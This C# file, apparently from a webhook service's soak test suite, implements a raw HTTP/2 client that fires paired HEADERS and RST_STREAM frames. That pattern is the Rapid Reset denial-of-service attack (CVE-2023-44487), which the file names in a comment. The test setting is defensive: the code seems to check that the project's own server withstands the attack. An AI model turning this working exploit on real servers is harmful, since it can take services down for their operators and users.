using System.Buffers.Binary;
using System.Net.Security;
using System.Text;

namespace Webhooks.FunctionalTests.Soak;

/// <summary>A client of HTTP/2 that begins requests and takes each back at once: HEADERS, RST_STREAM (CVE-2023-44487).</summary>
/// <param name="stream">A connection that has agreed on h2.</param>
internal sealed class RapidResets(SslStream stream)
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndHeaders = 4;
    private const int FrameHeader = 9;

    /// <summary>RFC 9113, 7: the stream is no longer needed.</summary>
    private const int Cancel = 8;

    // RFC 7541, appendix A and 6.2.2: 3 is :method POST, 7 :scheme https, 4 :path, 1 :authority, 31 content-type.
    private static readonly byte[] HeaderBlock =
    [
        0x83, 0x87, 0x04, (byte)"/mutate".Length, .. "/mutate"u8, 0x01, (byte)"localhost".Length, .. "localhost"u8, 0x0F, 0x10, (byte)"application/json".Length, .. "application/json"u8,
    ];

    private int _next = 1;

    /// <summary>The preface, and settings without a word.</summary>
    public async Task GreetAsync(CancellationToken cancellation) =>
        await stream.WriteAsync((byte[])[.. Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), .. Frame(Settings, 0, 0, [])], cancellation);

    /// <summary>Begins so many requests and takes them back.</summary>
    public async Task SendAsync(int count, CancellationToken cancellation)
    {
        byte[] reason = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(reason, Cancel);
        List<byte> frames = [];
        for (int i = 0; i < count; i++, _next += 2)
        {
            frames.AddRange(Frame(Headers, EndHeaders, _next, HeaderBlock));
            frames.AddRange(Frame(ResetStream, 0, _next, reason));
        }

        await stream.WriteAsync(frames.ToArray(), cancellation);
    }

    /// <summary>Reads, without looking, until the server closes.</summary>
    public async Task ReadToEndAsync(CancellationToken cancellation)
    {
        byte[] buffer = new byte[4096];
        while (await stream.ReadAsync(buffer, cancellation) > 0)
        {
        }
    }

    private static byte[] Frame(byte type, byte flags, int id, byte[] payload)
    {
        byte[] frame = new byte[FrameHeader + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), id);
        payload.CopyTo(frame, FrameHeader);
        return frame;
    }
}
